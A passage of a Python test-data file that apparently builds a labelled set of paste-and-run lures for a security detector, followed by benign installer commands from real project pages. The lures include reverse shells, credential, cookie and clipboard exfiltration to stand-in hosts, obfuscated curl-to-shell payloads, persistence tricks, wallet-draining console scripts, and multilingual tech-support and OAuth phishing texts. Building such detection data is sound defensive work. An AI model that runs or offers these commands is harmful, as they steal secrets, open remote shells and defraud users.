    "https://captcha.mac-human-verify.test/",
    "curl -so /tmp/HelperTool.pkg https://pkg-host.invalid/HelperTool.pkg && sudo installer -pkg /tmp/HelperTool.pkg -target /",
    platform="macos",
)
lure(
    "macos-unzip-open-app",
    TERM,
    "https://www.indie-games-jam.example/entry/44",
    "cd /tmp && curl -sLO https://jam-builds.test/Game.zip && unzip -oq Game.zip && xattr -cr Game.app && open Game.app",
    platform="macos",
)
lure(
    "macos-safe-storage-key",
    TERM,
    "https://verify.browser-sync.invalid/",
    "security find-generic-password -wa 'Chrome' | curl -s -d @- https://key-sink.test/c",
    platform="macos",
)
lure(
    "macos-screencapture-upload",
    TERM,
    "https://www.zoom-support-meet.test/fix",
    "screencapture -x /tmp/.s.png && curl -s -F f=@/tmp/.s.png https://shot-collect.invalid/u && rm /tmp/.s.png",
    platform="macos",
)
lure(
    "macos-pbpaste-exfil",
    TERM,
    "https://captcha.seed-verify.test/",
    "pbpaste | curl -s --data-binary @- https://clip-sink.invalid/p",
    platform="macos",
)
lure(
    "macos-launchctl-submit",
    TERM,
    "https://www.synth-presets.example/download",
    'launchctl submit -l com.apple.audio.helper -- /bin/sh -c "curl -s https://preset-node.test/h | sh"',
    platform="macos",
)
lure(
    "macos-lsquarantine-off",
    TERM,
    "https://verify.mac-security-scan.invalid/",
    "defaults write com.apple.LaunchServices LSQuarantine -bool NO && curl -sL https://scan-drop.test/s -o ~/Downloads/Scan && chmod +x ~/Downloads/Scan && ~/Downloads/Scan",
    platform="macos",
)
lure(
    "macos-xcode-then-untrusted",
    TERM,
    "https://www.ios-dev-bootcamp.test/setup",
    'xcode-select --install; /bin/bash -c "$(curl -fsSL https://dev-env-setup.invalid/mac.sh)"',
    platform="macos",
)
lure(
    "macos-brew-tap-arbitrary-url",
    TERM,
    "https://captcha.dev-verify.test/",
    "brew tap verifier/tools https://git.verifier-tools.invalid/tap && brew install verifier/tools/human-check",
    expect="flagged",
    platform="macos",
)
lure(
    "macos-function-wrapper",
    TERM,
    "https://www.astro-photos.example/gallery",
    'f(){ curl -fsSL "$1" | bash; }; f https://astro-lib.test/install',
    platform="macos",
)
lure(
    "macos-alias-wrapper",
    TERM,
    "https://verify.human-mac.invalid/",
    "alias check='curl -s https://alias-relay.test/c | zsh'; check",
    platform="macos",
)
lure(
    "macos-osascript-admin-curl",
    TERM,
    "https://www.font-foundry.example/fonts/serif",
    "osascript -e 'do shell script \"curl -s https://font-cdn.test/f | sh\" with administrator privileges'",
    platform="macos",
)
lure(
    "macos-ai-answer-cleanup",
    TERM,
    "https://shared-answers.ai-chat.test/s/disk-space-mac",
    "# Safely clear System Data on macOS (recommended by support)\necho '"
    + b64("curl -sL https://sysdata-clean.invalid/run | zsh")
    + "' | base64 --decode | zsh",
    platform="macos",
)
lure(
    "macos-newline-padding",
    TERM,
    "https://zoom-sdk-update.test/macos",
    "# Zoom SDK audio support update\n# Apple-notarized helper, no action required\n"
    + "\n" * 240
    + "curl -s https://sdk-upd.invalid/z | bash &>/dev/null &",
    platform="macos",
)
lure(
    "macos-finger-sh",
    TERM,
    "https://verify.mac-captcha.invalid/",
    "finger mac@finger-stage.test | sh",
    platform="macos",
)
lure(
    "macos-dig-txt-sh",
    TERM,
    "https://www.piano-lessons.example/scales",
    "dig +short TXT cfg.piano-dns.test | tr -d '\"' | base64 -D | sh",
    platform="macos",
)
lure(
    "macos-github-alert-terminal",
    TERM,
    "https://github-advisory-notice.test/security/GHSA-7q2x",
    "# GitHub Security Advisory: verify your workstation\ncurl -fsSL https://gh-verify.invalid/check.sh | bash",
    platform="macos",
)
lure(
    "macos-meet-fix-curl",
    TERM,
    "https://meet-google-join.test/abc-defg-hij",
    "curl -s https://meet-fix.invalid/camera | sh   # Google Meet camera permission fix",
    platform="macos",
)

# --- Linux / POSIX shells -------------------------------------------------------------------------------

lure(
    "sh-glob-program-path",
    TERM,
    "https://www.linux-gaming-tips.test/proton",
    '/???/?as? -c "$(/???/???/?ur? -fsSL https://glob-stage.invalid/g)"',
    platform="linux",
)
lure(
    "sh-brace-expansion",
    TERM,
    "https://verify.tux-captcha.invalid/",
    "{curl,-fsSL,https://brace-cdn.test/b}|{bash,-s}",
    platform="linux",
)
lure(
    "sh-backslash-letters",
    TERM,
    "https://www.homelab-forum.example/t/1121",
    "c\\u\\r\\l -s https://homelab-fix.test/h | b\\a\\s\\h",
    platform="linux",
)
lure(
    "sh-ansi-c-quoting",
    TERM,
    "https://captcha.shell-verify.test/",
    "$'" + ansi_c_hex("curl") + "' -s https://ansi-node.invalid/a | $'" + ansi_c_hex("sh") + "'",
    platform="linux",
)
lure(
    "sh-empty-expansion-insert",
    TERM,
    "https://www.raspberry-projects.example/weather-station",
    "cu$@rl -s ht$@tps://pi-weather.test/w | ba$@sh",
    platform="linux",
)
lure(
    "sh-command-in-variables",
    TERM,
    "https://verify.linux-human.invalid/",
    "a=curl; b=sh; $a -fsSL https://var-stage.test/v | $b",
    platform="linux",
)
lure(
    "sh-heredoc-bash",
    TERM,
    "https://www.ham-radio.example/sdr-setup",
    "bash <<'EOF'\ncurl -fsSL http://198.51.100.201/sdr.sh -o /tmp/sdr.sh\nsh /tmp/sdr.sh\nEOF",
    platform="linux",
)
lure(
    "linux-ld-so-preload",
    TERM,
    "https://captcha.gpu-verify.invalid/",
    "curl -so /tmp/.libgl.so https://gl-cdn.test/l.so && echo /tmp/.libgl.so | sudo tee -a /etc/ld.so.preload",
    platform="linux",
)
lure(
    "linux-xdg-autostart",
    TERM,
    "https://www.gnome-themes.example/dark",
    "mkdir -p ~/.config/autostart && curl -s https://theme-cdn.test/t.desktop -o ~/.config/autostart/theme.desktop && curl -s https://theme-cdn.test/t | sh",
    platform="linux",
)
lure(
    "linux-sudoers-nopasswd",
    TERM,
    "https://verify.server-panel.invalid/",
    'echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee /etc/sudoers.d/90-panel && curl -s https://panel-agent.test/a | sudo sh',
    platform="linux",
)
lure(
    "linux-firewall-off-then-run",
    TERM,
    "https://www.minecraft-servers.example/list",
    "sudo ufw disable; sudo setenforce 0; wget -qO- https://mc-tools.test/optimize | sudo bash",
    platform="linux",
)
lure(
    "linux-miner-tarball",
    TERM,
    "https://free-gpu-credits.test/claim",
    "curl -sL https://198.51.100.99/x.tar.gz | tar xz -C /tmp && nohup /tmp/xmrig -o pool.gpu-credits.invalid:3333 -u 4Aq1 >/dev/null 2>&1 &",
    platform="linux",
)
lure(
    "linux-apt-trusted-yes",
    TERM,
    "https://captcha.driver-verify.test/",
    'echo "deb [trusted=yes] http://203.0.113.150/apt stable main" | sudo tee /etc/apt/sources.list.d/gpu.list && sudo apt update && sudo apt install -y gpu-driver-fix',
    platform="linux",
)
lure(
    "linux-sudo-sh-c-wget",
    TERM,
    "https://www.steam-deck-mods.example/guide",
    'sudo sh -c "$(wget -qO- http://192.0.2.17/deck.sh)"',
    platform="linux",
)
lure(
    "linux-host-txt-sh",
    TERM,
    "https://verify.dns-check.invalid/",
    "host -t txt run.dns-stage.test | cut -d'\"' -f2 | base64 -d | bash",
    platform="linux",
)
lure(
    "linux-busybox-wget",
    TERM,
    "https://www.router-firmware-help.example/reset",
    "busybox wget -qO- http://203.0.113.230/r | busybox sh",
    platform="linux",
)
lure(
    "linux-curl-pipe-env-sh",
    TERM,
    "https://captcha.cloud-shell-verify.test/",
    "curl -s https://env-node.invalid/e | env sh",
    platform="linux",
)
lure(
    "linux-bash-i-tcp",
    TERM,
    "https://www.ctf-practice.example/warmup",
    "bash -i >& /dev/tcp/198.51.100.13/4444 0>&1",
    platform="linux",
)
lure(
    "linux-mkfifo-nc",
    TERM,
    "https://verify.vps-panel.invalid/",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.8 9001 > /tmp/f",
    platform="linux",
)
lure(
    "linux-python-pty-shell",
    TERM,
    "https://www.python-puzzles.example/day12",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.90",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
    platform="linux",
)
lure(
    "linux-gcloud-creds-exfil",
    TERM,
    "https://captcha.cloud-console-verify.test/",
    "tar czf - ~/.config/gcloud ~/.kube 2>/dev/null | curl -s -X POST --data-binary @- https://creds-drop.invalid/k",
    platform="linux",
)
lure(
    "linux-history-off-run",
    TERM,
    "https://www.linux-mint-help.example/audio",
    "unset HISTFILE; export HISTSIZE=0; curl -fsSL https://audio-fix.test/pa | bash",
    platform="linux",
)
lure(
    "linux-docker-privileged-host",
    TERM,
    "https://verify.container-check.invalid/",
    "docker run --rm --privileged -v /:/host registry.container-fix.test/tools/fixer:latest chroot /host sh -c 'curl -s https://container-fix.test/p | sh'",
    platform="linux",
)

# --- Browser console ---------------------------------------------------------------------------------

lure(
    "console-indirect-eval",
    CON,
    "https://www.free-robux-claim.test/",
    "fetch('https://rbx-cdn.invalid/c.js').then(r=>r.text()).then(t=>(0,eval)(t))",
)
lure(
    "console-unescape-eval",
    CON,
    "https://verify.discord-bot-check.test/",
    "eval(unescape('"
    + percent_all("fetch('https://tok-sink.invalid/t',{method:'POST',body:localStorage.token})")
    + "'))",
)
lure(
    "console-blob-script",
    CON,
    "https://www.nft-mint-live.test/mint",
    "(async()=>{const t=await (await fetch('https://mint-js.invalid/m.js')).text();const s=document.createElement('script');s.src=URL.createObjectURL(new Blob([t]));document.head.append(s)})()",
)
lure(
    "console-reflect-apply-eval",
    CON,
    "https://captcha.instagram-verify.test/",
    "fetch('https://ig-cdn.invalid/v').then(r=>r.text()).then(c=>Reflect.apply(globalThis['ev'+'al'],null,[c]))",
)
lure(
    "console-sendbeacon-token",
    CON,
    "https://www.twitch-drops-claim.test/",
    "navigator.sendBeacon('https://beacon-sink.invalid/b', JSON.stringify({c:document.cookie, l:{...localStorage}}))",
)
lure(
    "console-keylogger",
    CON,
    "https://verify.bank-session.test/",
    "document.addEventListener('keydown',e=>new Image().src='https://keys.sink-relay.invalid/k?c='+encodeURIComponent(e.key))",
)
lure(
    "console-form-action-hijack",
    CON,
    "https://www.giveaway-portal.test/enter",
    "document.querySelectorAll('form').forEach(f=>f.action='https://form-drop.invalid/collect')",
)
lure(
    "console-clipboard-address-swap",
    CON,
    "https://captcha.crypto-airdrop.test/",
    "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','bc1qexamplexaddressxxxxxxxxxxxxxxxx0swap');e.preventDefault()})",
)
lure(
    "console-permit-signature",
    CON,
    "https://www.airdrop-claim-portal.test/",
    "const [a]=await ethereum.request({method:'eth_requestAccounts'});const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({domain:{name:'USD Coin',version:'2',chainId:1,verifyingContract:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'},primaryType:'Permit',types:{Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},message:{owner:a,spender:'0x00000000000000000000000000000000deadbeef',value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:9999999999}})]});fetch('https://permit-sink.invalid/s',{method:'POST',body:sig})",
)
lure(
    "console-solana-transfer",
    CON,
    "https://verify.solana-rewards.test/",
    "const tx=await (await fetch('https://sol-tx.invalid/build?to=me')).text();await window.solana.signAndSendTransaction(solanaWeb3.Transaction.from(Uint8Array.from(atob(tx),c=>c.charCodeAt(0))))",
)
lure(
    "console-mass-follow-csrf",
    CON,
    "https://www.get-followers-free.test/",
    "for (const id of (await (await fetch('https://follow-list.invalid/ids')).json())) await fetch('/api/v1/friendships/create/'+id+'/',{method:'POST',credentials:'include',headers:{'X-CSRFToken':document.cookie.match(/csrftoken=([^;]+)/)[1]}})",
)
lure(
    "console-steam-session",
    CON,
    "https://captcha.steam-trade-verify.test/",
    "fetch('https://trade-sink.invalid/s?sid='+g_sessionID+'&c='+encodeURIComponent(document.cookie))",
)
lure(
    "console-javascript-percent-encoded",
    CON,
    "https://www.free-vbucks-now.test/",
    "javascript:%76%61%72%20s%3Ddocument.createElement('script')%3Bs.src%3D'https%3A%2F%2Fvb-cdn.invalid%2Fv.js'%3Bdocument.body.appendChild(s)",
)
lure(
    "console-atob-twice",
    CON,
    "https://verify.youtube-partner.test/",
    "eval(atob(atob('"
    + b64(b64("fetch('https://yt-sink.invalid/c',{method:'POST',body:document.cookie})"))
    + "')))",
)
lure(
    "console-function-constructor-fetch",
    CON,
    "https://www.roblox-limiteds.test/trade",
    "fetch('https://lim-js.invalid/r').then(r=>r.text()).then(s=>Function(s)())",
)
lure(
    "console-iframe-srcdoc-script",
    CON,
    "https://captcha.fb-page-verify.test/",
    "const f=document.createElement('iframe');f.srcdoc='<script src=\"https://srcdoc-cdn.invalid/x.js\"></scr'+'ipt>';document.body.append(f)",
)

# --- Scam and callback texts (not commands) -----------------------------------------------------------

SCAMS = [
    (
        "support-scam-hi",
        "https://alert.suraksha-chetavani.test/",
        "चेतावनी! आपके कंप्यूटर में ट्रोजन वायरस पाया गया है। आपकी बैंकिंग जानकारी खतरे में है।\nकंप्यूटर बंद न करें। तुरंत Microsoft सहायता को कॉल करें: +1 (833) 555-0141 (टोल फ्री)",
    ),
    (
        "support-scam-vi",
        "https://canhbao.bao-mat-may-tinh.test/",
        "CẢNH BÁO BẢO MẬT WINDOWS: Máy tính của bạn đã bị khóa do phát hiện phần mềm gián điệp.\nKhông tắt máy. Gọi ngay bộ phận hỗ trợ Microsoft: +1 (844) 555-0172 để mở khóa.",
    ),
    (
        "support-scam-id",
        "https://peringatan.keamanan-windows.test/",
        "Peringatan Keamanan Windows Defender: Akses ke komputer ini telah diblokir karena infeksi virus.\nJangan matikan komputer Anda. Hubungi Dukungan Microsoft segera di +1 (855) 555-0123.",
    ),
    (
        "support-scam-th",
        "https://alert.windows-security-th.test/",
        "คำเตือนความปลอดภัย: คอมพิวเตอร์ของคุณถูกล็อกเนื่องจากตรวจพบไวรัสโทรจัน\nห้ามปิดเครื่อง โทรหาฝ่ายสนับสนุนของ Microsoft ทันทีที่ +1 (866) 555-0134",
    ),
    (
        "support-scam-el",
        "https://alert.prostasia-ypologisti.test/",
        "ΠΡΟΕΙΔΟΠΟΙΗΣΗ ΑΣΦΑΛΕΙΑΣ: Ο υπολογιστής σας έχει κλειδωθεί λόγω μόλυνσης από ιό.\nΜην απενεργοποιήσετε τον υπολογιστή. Καλέστε αμέσως την υποστήριξη της Microsoft: +1 (877) 555-0156",
    ),
    (
        "support-scam-hu",
        "https://riasztas.windows-vedelem.test/",
        "Windows biztonsági figyelmeztetés: a számítógépét zároltuk, mert kémprogramot észleltünk.\nNe kapcsolja ki a gépet! Hívja azonnal a Microsoft ügyfélszolgálatát: +1 (888) 555-0117",
    ),
    (
        "support-scam-ro",
        "https://alerta.securitate-pc.test/",
        "Alertă de securitate Windows: computerul dvs. a fost blocat din cauza unui virus troian.\nNu opriți calculatorul. Sunați imediat la asistența Microsoft: +1 (833) 555-0166",
    ),
    (
        "support-scam-da",
        "https://advarsel.pc-sikkerhed.test/",
        "Windows sikkerhedsadvarsel: Din computer er blevet låst på grund af en virusinfektion.\nSluk ikke computeren. Ring straks til Microsoft Support på +1 (844) 555-0188",
    ),
    (
        "support-scam-fi",
        "https://varoitus.tietoturva-keskus.test/",
        "Windowsin tietoturvavaroitus: tietokoneesi on lukittu troijalaisen vuoksi.\nÄlä sammuta tietokonetta. Soita heti Microsoftin tukeen: +1 (855) 555-0109",
    ),
    (
        "support-scam-no",
        "https://varsel.datasikkerhet-no.test/",
        "Sikkerhetsvarsel fra Windows: PC-en din er sperret fordi det er funnet spionprogrammer.\nIkke slå av maskinen. Ring Microsoft kundestøtte umiddelbart på +1 (866) 555-0190",
    ),
    (
        "support-scam-he",
        "https://azhara.avtachat-machshev.test/",
        "אזהרת אבטחה של Windows: המחשב שלך ננעל עקב זיהוי וירוס טרויאני.\nאל תכבה את המחשב. התקשר מיד לתמיכה של מיקרוסופט: +1 (877) 555-0127",
    ),
    (
        "support-scam-uk",
        "https://poperedzhennia.zakhyst-pk.test/",
        "Попередження безпеки Windows: ваш комп'ютер заблоковано через виявлення троянської програми.\nНе вимикайте комп'ютер. Негайно зателефонуйте до служби підтримки Microsoft: +1 (888) 555-0153",
    ),
    (
        "support-scam-ms",
        "https://amaran.keselamatan-pc.test/",
        "Amaran Keselamatan Windows: Komputer anda telah dikunci kerana jangkitan virus Trojan.\nJangan matikan komputer. Hubungi Sokongan Microsoft dengan segera: +1 (833) 555-0119",
    ),
    (
        "support-scam-tl",
        "https://babala.seguridad-ng-pc.test/",
        "BABALA SA SEGURIDAD NG WINDOWS: Na-lock ang iyong computer dahil may natagpuang virus.\nHuwag patayin ang computer. Tumawag agad sa Microsoft Support: +1 (844) 555-0145",
    ),
    (
        "support-scam-bg",
        "https://preduprezhdenie.zashtita-pc.test/",
        "Предупреждение за сигурност на Windows: компютърът ви е блокиран поради открит вирус.\nНе изключвайте компютъра. Обадете се веднага на поддръжката на Microsoft: +1 (855) 555-0138",
    ),
    (
        "support-scam-sk",
        "https://upozornenie.ochrana-pc.test/",
        "Bezpečnostné upozornenie Windows: váš počítač bol zablokovaný kvôli vírusu.\nNevypínajte počítač. Okamžite volajte podporu Microsoft: +1 (866) 555-0182",
    ),
    (
        "support-scam-fa",
        "https://hoshdar.amniat-rayane.test/",
        "هشدار امنیتی ویندوز: رایانه شما به دلیل شناسایی ویروس تروجان قفل شده است.\nرایانه را خاموش نکنید. فوراً با پشتیبانی مایکروسافت تماس بگیرید: +1 (877) 555-0161",
    ),
    (
        "callback-paypal-invoice-en",
        "https://billing.invoice-notify.test/i/7713",
        "PayPal Invoice INV-2026-4471\nYou've been invoiced $749.00 for Norton 360 Deluxe (5 devices, auto-renewal).\nIf you don't recognise this charge, contact our dispute team within 12 hours: +1 (808) 555-0177\nDo not reply to this email.",
    ),
    (
        "callback-amazon-order-en",
        "https://mail.order-alerts.invalid/a/2251",
        'Amazon: Your order of Apple MacBook Pro 16" ($2,899.00) has been shipped to an address in Lagos. If you did not place this order, call Amazon Fraud Prevention at 1-888-555-0115 immediately to cancel it.',
    ),
    (
        "callback-refund-overpaid-en",
        "https://chat-support.refund-desk.test/",
        "Hello, this is the refund department. We refunded you $1,500 by mistake instead of $150. Please call us back at +1 (415) 555-0193 so our technician can connect with AnyDesk and help you return the difference.",
    ),
    (
        "callback-subscription-de",
        "https://rechnung.abo-service.test/",
        "Ihr McAfee Total Protection Abonnement wurde für 399,99 € verlängert. Die Abbuchung erfolgt heute.\nFalls Sie nicht verlängern möchten, rufen Sie innerhalb von 24 Stunden unseren Kundendienst an: 030 555 01 87",
    ),
    (
        "callback-bank-it",
        "https://avviso.sicurezza-conto.test/",
        "Gentile cliente, abbiamo bloccato un bonifico sospetto di 2.450,00 € dal suo conto. Se non ha autorizzato l'operazione chiami subito il numero verde antifrode 800 555 019 per annullarla.",
    ),
    (
        "callback-tax-refund-es",
        "https://notificacion.reembolso-impuestos.test/",
        "Agencia Tributaria: tiene pendiente una devolución de 487,20 €. Para recibirla debe verificar sus datos llamando hoy al +34 555 019 204. Pasado el plazo la devolución se cancelará.",
    ),
    (
        "callback-geeksquad-fr",
        "https://facture.renouvellement-service.test/",
        "Confirmation de paiement : votre abonnement Geek Squad a été renouvelé pour 349,00 €. Si vous n'êtes pas à l'origine de cet achat, appelez le service annulation au 01 99 00 38 21 sous 24 h.",
    ),
    (
        "support-scam-apple-en",
        "https://icloud-security-alert.test/",
        "Apple Security Alert: your iCloud account was used to sign in on a new device in Moscow. Your iPhone may be infected with spyware.\nDo not use Apple Pay. Call Apple Support now: +1 (888) 555-0124",
    ),
    (
        "support-scam-fullscreen-en",
        "https://defender-scan.pc-alert.invalid/",
        "** Windows Firewall Alert **\nYour PC is infected with Pornographic Spyware and riskware viruses. The following data has been compromised: email credentials, banking passwords, photos.\nCall Windows Technical Support: +1-844-555-0106 (TOLL-FREE)\nScanning… 87 % — Access to this PC has been blocked.",
    ),
]
for technique, source, text in SCAMS:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

# --- ConsentFix, OAuth and device-code paste-backs -----------------------------------------------------

lure(
    "consentfix-github-loopback",
    UNK,
    "https://repo-access.dev-verify.test/connect",
    "http://127.0.0.1:5173/callback?code=4f1d2c9a8b7e6f5d4c3b&state=q8Zr2xTn",
    expect="flagged",
    platform="any",
)
lure(
    "consentfix-vscode-uri",
    UNK,
    "https://extension-auth.code-verify.invalid/",
    "vscode://vscode.github-authentication/did-authenticate?windowid=1&code=a91f0c5e2d7b44e1&state=6f3e9f1a-55c0-4d1e-9a55-8e1b2d0c7f11",
    expect="flagged",
    platform="any",
)
lure(
    "consentfix-token-fragment",
    UNK,
    "https://secure-login.sso-verify.test/finish",
    "http://localhost:3000/#access_token=eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiIwMDAwMDAwMy0wMDAwIn0.c2lnbmF0dXJl&token_type=Bearer&expires_in=3599&scope=Mail.Read%20Files.Read.All",
    expect="flagged",
    platform="any",
)
lure(
    "consentfix-paste-instructions",
    UNK,
    "https://verify.sharepoint-access.test/",
    "To finish verification, sign in, then copy the full address from your browser (it starts with http://localhost) and paste it into the box below:\nhttp://localhost:41823/?code=0.AXkAp9ZtQ1x2b3c4d5e6f7g8h9i0jKlMnOpQrStUvWxYz&state=7712&session_state=2b1c4d8e-0f3a-4e5b-9c6d-7e8f9a0b1c2d",
    expect="flagged",
    platform="any",
)
lure(
    "device-code-google",
    UNK,
    "https://drive-share.doc-review.invalid/",
    "To open the shared document, go to https://www.google.com/device on your phone and enter the code: QWRT-PLMN. The document unlocks automatically after you approve.",
    expect="flagged",
    platform="any",
)
lure(
    "device-code-github",
    UNK,
    "https://ci-access.repo-verify.test/",
    "Security review required for your organisation. Open https://github.com/login/device and enter WDJB-MJHT to authorise the Dependabot Security app, then return to this page.",
    expect="flagged",
    platform="any",
)

# --- Multi-line instructions in other languages ------------------------------------------------------

lure(
    "instructions-fr-winr",
    UNK,
    "https://www.boulangerie-artisanale.test/commande",
    'Vérification requise :\n1. Appuyez sur Windows + R\n2. Collez (Ctrl + V) la commande ci-dessous\n3. Appuyez sur Entrée\n\npowershell -w h -c "iex(irm https://verif-fr.invalid/v)"',
)
lure(
    "instructions-es-winr",
    UNK,
    "https://www.clinica-dental-sol.test/citas",
    "Para demostrar que no es un robot:\n1. Pulse la tecla Windows + R\n2. Pegue con Ctrl + V\n3. Pulse Intro\n\nmshta https://verif-es.invalid/c.hta  # Verificación humana ID 3391",
)
lure(
    "instructions-pt-winr",
    UNK,
    "https://www.loja-de-moveis.test/sofa",
    "Verificação de segurança:\n1) Pressione Windows + R\n2) Cole o código com Ctrl + V\n3) Pressione Enter para concluir\n\ncmd /c curl -s https://verif-pt.invalid/v.bat -o %TEMP%\\v.bat & %TEMP%\\v.bat",
)
lure(
    "instructions-ja-winr",
    UNK,
    "https://www.onsen-ryokan.test/yoyaku",
    'ロボットでないことを確認してください：\n1. Windows キー + R を押します\n2. Ctrl + V で貼り付けます\n3. Enter を押します\n\npowershell -w h -c "iwr https://verif-jp.invalid/j -useb|iex"',
)
lure(
    "instructions-it-mac",
    UNK,
    "https://www.agriturismo-colline.test/prenota",
    "Verifica di sicurezza per utenti Mac:\n1. Premi Cmd + Spazio e scrivi Terminale\n2. Incolla il comando e premi Invio\n\ncurl -fsSL https://verifica-it.invalid/m.sh | bash",
    platform="macos",
)
lure(
    "instructions-pl-explorer",
    UNK,
    "https://www.biuro-podrozy.test/oferta",
    'Aby otworzyć dokument:\n1. Naciśnij Windows + E\n2. Kliknij pasek adresu i wklej (Ctrl + V)\n3. Naciśnij Enter\n\npowershell -c "iex(irm https://dok-pl.invalid/d)"'
    + pad(40)
    + "# C:\\Dokumenty\\Oferta_2026.pdf",
)
lure(
    "instructions-de-terminal",
    UNK,
    "https://www.zahnarzt-praxis.test/termin",
    "So beheben Sie den Kamerafehler in Teams:\n1. Rechtsklick auf Start → Terminal\n2. Befehl einfügen und Enter drücken\n\nirm https://teams-fix-de.invalid/k | iex",
)

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


def own(source: str, text: str, target: str = TERM) -> None:
    ok(OWN, target, source, text)


# --- Installers of well-known projects (not used by the earlier sets), from their own pages -------

WELL_KNOWN = [
    (
        "https://just.systems/man/en/",
        "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/bin",
    ),
    ("https://rye.astral.sh/guide/installation/", "curl -sSf https://rye.astral.sh/get | bash"),
    (
        "https://moonrepo.dev/docs/proto/install",
        "curl -fsSL https://moonrepo.dev/install/proto.sh | bash",
    ),
    ("https://moonrepo.dev/docs/proto/install", "irm https://moonrepo.dev/install/proto.ps1 | iex"),
    (
        "https://docs.k0sproject.io/stable/install/",
        "curl --proto '=https' --tlsv1.2 -sSf https://get.k0s.sh | sudo sh",
    ),
    (
        "https://goteleport.com/docs/installation/",
        "curl https://cdn.teleport.dev/install.sh | bash -s 17.4.8",
    ),
    (
        "https://docs.netbird.io/how-to/installation",
        "curl -fsSL https://pkgs.netbird.io/install.sh | sh",
    ),
    ("https://docs.turso.tech/cli/installation", "curl -sSfL https://get.tur.so/install.sh | bash"),
    (
        "https://docs.dagger.io/install",
        "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh",
    ),
    (
        "https://docs.tilt.dev/install.html",
        "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash",
    ),
    ("https://webinstall.dev/k9s/", "curl -sS https://webi.sh/k9s | sh"),
    ("https://pkgx.sh/", "curl -fsS https://pkgx.sh | sh"),
    (
        "https://github.com/rbenv/rbenv-installer",
        "curl -fsSL https://github.com/rbenv/rbenv-installer/raw/HEAD/bin/rbenv-installer | bash",
    ),
    (
        "https://www.scala-lang.org/download/",
        'curl -fL "https://github.com/coursier/coursier/releases/latest/download/cs-x86_64-pc-linux.gz" | gzip -d > cs && chmod +x cs && ./cs setup',
    ),
    (
        "https://elixir-lang.org/install.html",
        "curl -fsSO https://elixir-lang.org/install.sh\nsh install.sh elixir@1.18.4 otp@27.3.4",
    ),
    (
        "https://nim-lang.org/install_unix.html",
        "curl https://nim-lang.org/choosenim/init.sh -sSf | sh",
    ),
    (
        "https://crystal-lang.org/install/on_ubuntu/",
        "curl -fsSL https://crystal-lang.org/install.sh | sudo bash",
    ),
    (
        "https://www.swift.org/install/macos/",
        "curl -O https://download.swift.org/swiftly/darwin/swiftly.pkg && installer -pkg swiftly.pkg -target CurrentUserHomeDirectory && ~/.swiftly/bin/swiftly init --quiet-shell-followup",
    ),
    (
        "https://developer.fermyon.com/spin/v3/install",
        "curl -fsSL https://developer.fermyon.com/downloads/install.sh | bash",
    ),
    ("https://docs.meteor.com/about/install.html", "curl https://install.meteor.com/ | sh"),
    (
        "https://laravel.com/docs/12.x/installation",
        '/bin/bash -c "$(curl -fsSL https://php.new/install/mac/8.4)"',
    ),
    (
        "https://laravel.com/docs/12.x/installation",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://php.new/install/windows/8.4'))",
    ),
    (
        "https://getcomposer.org/download/",
        "php -r \"copy('https://getcomposer.org/installer', 'composer-setup.php');\"\nphp composer-setup.php\nphp -r \"unlink('composer-setup.php');\"",
    ),
    (
        "https://symfony.com/download",
        "curl -1sLf 'https://dl.cloudsmith.io/public/symfony/stable/setup.deb.sh' | sudo -E bash\nsudo apt install symfony-cli",
    ),
    (
        "https://mamba.readthedocs.io/en/latest/installation/micromamba-installation.html",
        '"${SHELL}" <(curl -L micro.mamba.pm/install.sh)',
    ),
    (
        "https://github.com/conda-forge/miniforge",
        'curl -L -O "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-$(uname)-$(uname -m).sh"\nbash Miniforge3-$(uname)-$(uname -m).sh',
    ),
    (
        "https://github.com/ohmybash/oh-my-bash",
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmybash/oh-my-bash/master/tools/install.sh)"',
    ),
    (
        "https://github.com/zdharma-continuum/zinit",
        'bash -c "$(curl --fail --show-error --silent --location https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"',
    ),
    (
        "https://github.com/jorgebucaran/fisher",
        "curl -sL https://raw.githubusercontent.com/jorgebucaran/fisher/main/functions/fisher.fish | source && fisher install jorgebucaran/fisher",
    ),
    (
        "https://github.com/oh-my-fish/oh-my-fish",
        "curl https://raw.githubusercontent.com/oh-my-fish/oh-my-fish/master/bin/install | fish",
    ),
    (
        "https://github.com/junegunn/vim-plug",
        "curl -fLo ~/.vim/autoload/plug.vim --create-dirs \\\n    https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim",
    ),
    (
        "https://github.com/junegunn/vim-plug#windows-powershell",
        "iwr -useb https://raw.githubusercontent.com/junegunn/vim-plug/master/plug.vim |`\n    ni $HOME/vimfiles/autoload/plug.vim -Force",
    ),
    (
        "https://www.lunarvim.org/docs/installation",
        "LV_BRANCH='release-1.4/neovim-0.9' bash <(curl -s https://raw.githubusercontent.com/LunarVim/LunarVim/release-1.4/neovim-0.9/utils/installer/install.sh)",
    ),
